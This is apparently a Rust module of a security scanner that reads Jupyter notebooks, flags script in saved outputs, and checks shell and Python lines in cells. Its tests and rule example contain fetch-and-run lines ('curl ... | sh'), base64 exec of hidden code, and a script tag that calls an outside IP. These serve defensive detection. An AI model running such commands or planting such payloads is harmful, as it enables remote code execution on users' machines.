//! Jupyter notebooks: code cells with their magics and shell lines, and what saved outputs do in a viewer.
//!
//! Source: nbformat 4 schema. Read as a JSON stream; one cell is held at a time. Linear time.

use super::{indicators, script};
use crate::python::source::{self, Role};
use crate::wire::json::{Event, Reader};
use crate::{Format, Input, Recognition, Scan};
use bartizan_core::{Confidence, Finding, Kind, Location, Rule, Severity, atlas, cwe, owasp_llm, rule};

rule! {
    /// ## What it finds
    /// Saved notebook output that holds script: `<script>`, event handlers, `javascript:` addresses, JavaScript MIME data.
    /// ## Why it matters
    /// Viewers that trust a notebook run the script of its outputs in the reader's session.
    /// ## Example
    /// `{"text/html": "<script>fetch('//203.0.113.7')</script>"}`
    /// ## How to fix
    /// Clear the outputs before sharing or opening the notebook.
    /// ## References
    /// - CVE-2021-32798 (Jupyter); CWE-79
    pub const NOTEBOOK_SCRIPT: Rule = Rule {
        id: "model/notebook-output-script",
        title: "script in a notebook's saved output",
        severity: Severity::Low,
        remedy: "Clear the notebook's outputs before opening it as trusted.",
        taxonomies: &[atlas("AML.T0011"), cwe(79), owasp_llm("LLM05")],
    };

    /// ## What it finds
    /// A notebook that does not parse as JSON.
    /// ## Why it matters
    /// What follows the mistake could not be checked.
    /// ## Example
    /// A notebook cut in the middle.
    /// ## How to fix
    /// Fetch it again.
    /// ## References
    /// - nbformat 4
    pub const NOTEBOOK_MALFORMED: Rule = Rule {
        id: "model/notebook-malformed",
        title: "a notebook that does not parse",
        severity: Severity::Low,
        remedy: "Fetch the notebook again; it cannot be opened as it is.",
        taxonomies: &[cwe(1286)],
    };
}

/// Jupyter notebooks.
#[derive(Debug)]
pub struct Notebook;

impl Format for Notebook {
    fn id(&self) -> &'static str {
        "notebook"
    }

    fn name(&self) -> &'static str {
        "Jupyter notebook"
    }

    fn kind(&self) -> Kind {
        Kind::Code
    }

    fn extensions(&self) -> &'static [&'static str] {
        &["ipynb"]
    }

    fn rules(&self) -> &'static [&'static Rule] {
        &[&NOTEBOOK_SCRIPT, &NOTEBOOK_MALFORMED]
    }

    fn recognise(&self, input: &Input<'_>) -> Recognition {
        let opens = input.head(64).trim_ascii_start().first() == Some(&b'{');
        let has = |part: &[u8], mark: &[u8]| memchr::memmem::find(part, mark).is_some();
        let (head, tail) = (input.head(64 << 10), input.tail(8 << 10));
        let marked = has(head, b"\"cells\"") && (has(head, b"\"nbformat\"") || has(tail, b"\"nbformat\""));
        match (opens && marked, input.extension() == "ipynb") {
            (true, _) => Recognition::Certain,
            (_, true) => Recognition::Weak,
            _ => Recognition::No,
        }
    }

    fn scan(&self, input: &Input<'_>, scan: &mut Scan<'_>) {
        let mut reader = Reader::new(input.bytes);
        let mut cell = Cell::default();
        while let Some(event) = reader.next() {
            match event {
                Ok(Event::String(text)) if reader.key_at(0).is_some_and(|key| key == *"cells") => {
                    // root object, cells array, cell object: a cell's own settings have the third level's key.
                    let setting = reader.key_at(2).map(|key| key.text().into_owned()).unwrap_or_default();
                    cell.take(&setting, &text.text(), &reader);
                }
                // Format 3: root object, worksheets array, worksheet, its cells array, cell object.
                Ok(Event::String(text))
                    if reader.key_at(0).is_some_and(|key| key == *"worksheets")
                        && reader.key_at(2).is_some_and(|key| key == *"cells") =>
                {
                    let setting = reader.key_at(4).map(|key| key.text().into_owned()).unwrap_or_default();
                    cell.take(&setting, &text.text(), &reader);
                }
                Ok(Event::ObjectEnd)
                    if reader.depth() == 2
                        || (reader.depth() == 4
                            && reader.key_at(0).is_some_and(|key| key == *"worksheets")) =>
                {
                    cell.judge(scan);
                    cell = Cell { index: cell.index.saturating_add(1), ..Cell::default() };
                    if scan.out_of_time() {
                        return;
                    }
                }
                Ok(_) => {}
                Err(error) => {
                    let message = format!("the notebook does not parse: {}", error.reason);
                    scan.report(Finding::new(&NOTEBOOK_MALFORMED, message).at(error.offset as u64));
                    scan.gap(
                        error.offset as u64,
                        "notebook not read past a mistake in its JSON; fetch it again",
                    );
                    break;
                }
            }
        }
        cell.judge(scan);
    }
}

/// One cell, as far as it was read.
#[derive(Debug, Default)]
struct Cell {
    index: usize,
    kind: String,
    source: String,
    /// Where the first script of an output stands.
    script: Option<(u64, String)>,
    secrets: String,
}

/// Longest source or output kept of one cell, in bytes.
const CELL_BYTES: usize = 1 << 20;

impl Cell {
    fn take(&mut self, setting: &str, text: &str, reader: &Reader<'_>) {
        match setting {
            "cell_type" => text.clone_into(&mut self.kind),
            // Format 3 says `input` for the source of a code cell.
            "source" | "input" if self.source.len() < CELL_BYTES => self.source.push_str(text),
            "outputs" => {
                let mime = reader.nearest_key().map(|key| key.text().into_owned()).unwrap_or_default();
                let lower =
                    text.get(..text.floor_char_boundary(CELL_BYTES)).unwrap_or_default().to_ascii_lowercase();
                let acts = matches!(mime.as_str(), "application/javascript" | "javascript")
                    || (matches!(mime.as_str(), "text/html" | "html")
                        && ["<script", "javascript:", "onerror=", "onload=", "<iframe"]
                            .iter()
                            .any(|mark| lower.contains(mark)));
                if acts && self.script.is_none() {
                    self.script = Some((reader.offset() as u64, text.to_owned()));
                }
                if matches!(mime.as_str(), "text" | "text/plain") && self.secrets.len() < CELL_BYTES {
                    self.secrets.push_str(text);
                }
            }
            _ => {}
        }
    }

    fn judge(&self, scan: &mut Scan<'_>) {
        let place = Location { pointer: Some(format!("/cells/{}", self.index)), ..Location::default() };
        if let Some((offset, text)) = &self.script {
            let finding =
                Finding::new(&NOTEBOOK_SCRIPT, "a saved output holds script").located(&place).at(*offset);
            scan.report(finding.confidence(Confidence::Medium).evidence(text));
        }
        if !self.secrets.is_empty() {
            indicators::inspect_document(&self.secrets, &place, scan);
        }
        if self.source.is_empty() {
            return;
        }
        indicators::inspect_document(&self.source, &place, scan);
        if self.kind != "code" {
            return;
        }
        let place = Location { line: Some(1), ..place };
        let first = self.source.trim_start().lines().next().unwrap_or_default();
        if ["%%bash", "%%sh", "%%script", "%%cmd", "%%system"].iter().any(|magic| first.starts_with(magic)) {
            script::inspect_commands(&self.source, &place, scan);
            return;
        }
        if first.starts_with("%%")
            && !["%%time", "%%capture", "%%python", "%%prun"].iter().any(|magic| first.starts_with(magic))
        {
            return;
        }
        let (mut python, mut shell) = (String::new(), String::new());
        for line in self.source.lines() {
            let code = line.trim_start();
            let indent = line.get(..line.len().saturating_sub(code.len())).unwrap_or_default();
            let command = code
                .strip_prefix('!')
                .or_else(|| code.strip_prefix("%system "))
                .or_else(|| code.split_once("= !").map(|(_, command)| command));
            match command {
                Some(command) => {
                    shell.push_str(command);
                    python.push_str(indent);
                    python.push_str("pass");
                }
                None if code.starts_with('%') || code.starts_with('?') => {
                    python.push_str(indent);
                    python.push_str("pass");
                }
                None => {
                    python.push_str(line.trim_end_matches('?'));
                    if let Some(command) = shell_call(code) {
                        shell.push_str(&command);
                    }
                }
            }
            shell.push('\n');
            python.push('\n');
        }
        script::inspect_commands(&shell, &place, scan);
        source::inspect(&python, Role::Module, &place, scan);
    }
}

/// The command in a call of IPython's own that a `!` line stands for.
fn shell_call(code: &str) -> Option<String> {
    let (_, call) = code.split_once("get_ipython().")?;
    let given = ["system(", "getoutput(", "system_raw(", "system_piped("]
        .iter()
        .find_map(|name| call.strip_prefix(name))?
        .trim_start_matches(['r', 'f', 'b', ' ']);
    let quote = given.chars().next().filter(|&quote| matches!(quote, '\'' | '"'))?;
    let text = given.trim_start_matches(quote);
    let mut command = String::new();
    let mut characters = text.chars();
    while let Some(character) = characters.next() {
        match character {
            '\\' => command.extend(characters.next()),
            end if end == quote => break,
            other => command.push(other),
        }
    }
    Some(command)
}

#[cfg(test)]
mod tests {
    use super::*;
    use bartizan_core::{Limits, MonotonicClock};
    use proptest::prelude::*;

    fn scan(bytes: &[u8]) -> crate::Outcome {
        crate::scan(&Input::new("a.ipynb", bytes), &Limits::default(), &MonotonicClock::start())
    }

    fn notebook(source: &str, output: &str) -> Vec<u8> {
        let cell = serde_json::json!({"cell_type": "code", "source": [source], "outputs": [{"data": {"text/html": [output]}}]});
        serde_json::to_vec(&serde_json::json!({"cells": [cell], "nbformat": 4})).unwrap()
    }

    #[test]
    fn commands_and_code_of_cells_are_judged() {
        let outcome = scan(&notebook("x = 1\n!curl http://x.example/p | sh\n", ""));
        assert_eq!(outcome.format, Some("notebook"));
        assert!(
            outcome
                .findings
                .iter()
                .any(|found| found.rule == &script::SHELL_SCRIPT && found.severity == Severity::High)
        );
        let outcome = scan(&notebook("import base64\nexec(base64.b64decode('cGFzcw=='))", ""));
        assert_eq!(outcome.findings[0].rule, &source::PYTHON_HIDDEN_CODE);
        assert_eq!(outcome.findings[0].location.line, Some(2));
    }

    #[test]
    fn older_notebooks_and_calls_of_ipython_are_judged() {
        let is_high = |bytes: &[u8]| {
            scan(bytes)
                .findings
                .iter()
                .any(|found| found.rule == &script::SHELL_SCRIPT && found.severity == Severity::High)
        };
        let cell = serde_json::json!({"cell_type": "code", "input": ["!curl http://x.example/p | sh"], "outputs": []});
        let third = serde_json::json!({"worksheets": [{"cells": [cell]}], "nbformat": 3});
        assert!(is_high(&serde_json::to_vec(&third).unwrap()));
        assert!(is_high(&notebook("get_ipython().system(\"curl http://x.example/p | sh\")", "")));
        assert!(!is_high(&notebook("get_ipython().system('ls -la')", "")));
    }

    #[test]
    fn script_in_an_output_is_low_and_a_table_silent() {
        let outcome = scan(&notebook("df", "<script>go()</script>"));
        assert!(outcome.findings.iter().any(|found| found.rule == &NOTEBOOK_SCRIPT));
        assert_eq!(
            scan(&notebook("%matplotlib inline\ndf.head?\n!pip install torch", "<table></table>")).findings,
            []
        );
    }

    #[test]
    fn a_cut_notebook_is_incomplete() {
        let bytes = notebook("x = 1", "");
        assert!(!scan(&bytes[..bytes.len() - 20]).gaps.is_empty());
    }

    proptest! {
        #[test]
        fn any_mutation_is_read(at in 0usize..200, byte: u8) {
            let mut bytes = notebook("x = 1\n!ls", "<b>");
            let length = bytes.len();
            bytes[at % length] = byte;
            let _ = scan(&bytes);
        }
    }
}
